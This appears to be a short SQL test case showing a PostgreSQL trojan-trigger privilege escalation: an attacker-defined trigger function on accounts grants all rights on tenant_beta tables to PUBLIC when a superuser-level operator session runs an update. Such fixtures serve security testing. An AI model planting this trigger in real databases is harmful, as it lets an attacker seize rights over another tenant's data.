-- The attacker's function, run by a superuser, gives the attacker rights.
CREATE FUNCTION gives() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'GRANT ALL ON ALL TABLES IN SCHEMA tenant_beta TO PUBLIC'; RETURN NEW; END $$;
CREATE TRIGGER gives BEFORE UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION gives();
-- @session operator
UPDATE tenant_alpha.accounts SET balance = 0 WHERE id = 1;
